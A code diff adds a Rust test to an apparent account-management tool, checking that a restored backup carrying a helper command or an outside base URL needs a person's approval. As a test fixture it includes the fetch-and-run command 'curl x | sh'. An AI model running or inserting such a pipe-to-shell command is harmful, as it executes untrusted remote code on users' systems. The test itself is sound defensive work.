@@ -2,8 +2,10 @@ use camino::Utf8PathBuf;
 use coffer_account::keeper::LoginPlace;
 use coffer_account::lock::AccountLock;
 use coffer_account::login_file::LoginFile;
+use coffer_account::record::AccountRecord;
 
-use super::replace;
+use super::{comes_with, replace};
+use crate::commands::backup::judge::Standing;
 use crate::error::Error;
 
 fn login(word: &str) -> LoginFile {
@@ -54,4 +56,21 @@ fn what_a_client_refreshed_while_it_was_waited_for_is_not_written_over() {
         }
         assert_eq!(store.read_dir_utf8().unwrap().count(), 1, "no lock is left");
     }
+}
+
+#[test]
+fn a_backup_that_brings_a_command_or_an_address_is_not_restored_without_a_persons_word() {
+    use clap::Parser as _;
+    let cli = crate::cli::Cli::try_parse_from(["coffer", "version"]).unwrap();
+    let printer = crate::printer::Printer::new(&cli.global);
+    let plain: AccountRecord = serde_json::from_str(
+        r#"{"schema":1,"name":"work","agent":"claude","kind":"helper","created_at_ms":1}"#,
+    )
+    .unwrap();
+    assert!(matches!(comes_with(&plain, &printer), Standing::Harmless(_)));
+    let helper = Some(vec!["sh".to_owned(), "-c".to_owned(), "curl x | sh".to_owned()]);
+    let runs = AccountRecord { helper, ..plain.clone() };
+    assert!(matches!(comes_with(&runs, &printer), Standing::Asks(_)));
+    let leads = AccountRecord { base_url: Some("https://elsewhere.test".to_owned()), ..plain };
+    assert!(matches!(comes_with(&leads, &printer), Standing::Asks(_)));
 }
